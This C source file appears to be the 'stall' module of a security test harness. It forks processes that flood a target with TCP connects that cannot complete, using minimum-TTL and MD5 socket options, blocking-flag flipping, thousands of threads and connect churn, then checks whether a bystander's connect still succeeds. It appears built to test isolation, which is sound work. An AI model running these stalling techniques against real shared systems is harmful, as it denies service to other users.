/* Stalls: some processes make their own connects slow or many; does a bystander's honest connect still work? */
#include "attacker.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/prctl.h>
#include <sys/wait.h>

static struct sockaddr_storage target;
static socklen_t target_length;
static atomic_int flips_stop;

static void *flip_blocking(void *argument) {
  int fd = *(int *)argument;
  while (!flips_stop) fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) ^ O_NONBLOCK);
  return NULL;
}

/* One stalling connect on a socket prepared so that the handshake cannot finish. */
static void stall_once(const char *way) {
  int fd = socket(target.ss_family, SOCK_STREAM, 0), hops = 255;
  if (!strcmp(way, "minttl")) setsockopt(fd, IPPROTO_IP, 21 /* IP_MINTTL */, &hops, sizeof hops);
  if (!strcmp(way, "md5")) {
    struct tcp_md5sig key = {.tcpm_keylen = 4, .tcpm_key = "abcd"};
    memcpy(&key.tcpm_addr, &target, target_length);
    setsockopt(fd, IPPROTO_TCP, TCP_MD5SIG, &key, sizeof key);
    struct sockaddr_storage loopback;
    for (int i = 1; i < 4; i++) {
      char address[16];
      snprintf(address, sizeof address, "127.0.0.%d", i);
      socklen_t length = parse_address(address, "0", &loopback);
      memcpy(&key.tcpm_addr, &loopback, length);
      setsockopt(fd, IPPROTO_TCP, TCP_MD5SIG, &key, sizeof key);
    }
  }
  pthread_t thread;
  int flipping = !strcmp(way, "flip");
  if (flipping) setsockopt(fd, IPPROTO_IP, 21, &hops, sizeof hops);
  if (flipping && pthread_create(&thread, NULL, flip_blocking, &fd)) flipping = 0;
  connect(fd, (struct sockaddr *)&target, target_length);
  pause_ms(200);
  close(fd);
}

static void *connect_forever(void *unused) {
  (void)unused;
  for (;;) {
    int fd = socket(target.ss_family, SOCK_STREAM, 0);
    connect(fd, (struct sockaddr *)&target, target_length);
    if (fd >= 0) close(fd);
  }
  return NULL;
}

static void *connect_once(void *unused) {
  (void)unused;
  int fd = socket(target.ss_family, SOCK_STREAM, 0), hops = 255;
  setsockopt(fd, IPPROTO_IP, 21, &hops, sizeof hops);
  connect(fd, (struct sockaddr *)&target, target_length);
  pause();
  return NULL;
}

static void staller(const char *way) {
  pthread_attr_t small;
  pthread_t thread;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 65536);
  if (!strcmp(way, "threads"))
    for (int i = 0; i < 10000; i++)
      if (pthread_create(&thread, &small, connect_once, NULL)) break;
  if (!strcmp(way, "churn")) {
    pthread_create(&thread, &small, connect_forever, NULL);
    connect_forever(NULL);
  }
  if (!strcmp(way, "backlog")) {
    /* a listener of our own that never accepts: loopback connects to it hang */
    struct sockaddr_storage own;
    struct sockaddr_in bound;
    socklen_t length = parse_address("127.0.0.1", "0", &own), size = sizeof bound;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(fd, (struct sockaddr *)&own, length) || listen(fd, 0)) _exit(1);
    getsockname(fd, (struct sockaddr *)&bound, &size);
    memcpy(&target, &bound, size);
    target_length = size;
    for (int i = 0; i < 64; i++)
      if (pthread_create(&thread, &small, connect_once, NULL)) break;
  }
  for (;;) stall_once(way);
}

/* stall WAY ADDRESS PORT TEXT: "reached" when a bystander's connect took over two seconds or failed. */
static int stall(int argc, char **argv) {
  const char *way = need(argc, argv, 1), *text = need(argc, argv, 4);
  target_length = parse_address(need(argc, argv, 2), need(argc, argv, 3), &target);
  pid_t children[4];
  for (int i = 0; i < 4; i++) {
    children[i] = fork();
    if (children[i]) continue;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    staller(way);
  }
  pause_ms(700);
  long worst = 0;
  int failures = 0, error = 0;
  for (int i = 0; i < 5; i++) {
    int fd = socket(target.ss_family, SOCK_STREAM, 0);
    long begin = milliseconds();
    char reply[32];
    struct timeval limit = {3, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    /* blocking, bounded by its own send timeout: what an ordinary client does */
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    if (connect(fd, (struct sockaddr *)&target, target_length) || send(fd, text, strlen(text), MSG_NOSIGNAL) < 0 ||
        recv(fd, reply, sizeof reply, 0) <= 0)
      failures++, error = errno;
    long took = milliseconds() - begin;
    if (took > worst) worst = took;
    close(fd);
    if (worst > 2000) break;
  }
  for (int i = 0; i < 4; i++) kill(children[i], SIGKILL);
  for (int i = 0; i < 4; i++) waitpid(children[i], NULL, 0);
  errno = error;
  if (worst > 2000 || failures) return reached("bystander: worst %ld ms, %d failures, errno %d", worst, failures, error);
  printf("bystander: worst %ld ms\n", worst);
  errno = EAGAIN;
  return blocked("bystander unharmed");
}

const struct technique stall_techniques[] = {{"stall", stall}, {NULL, NULL}};
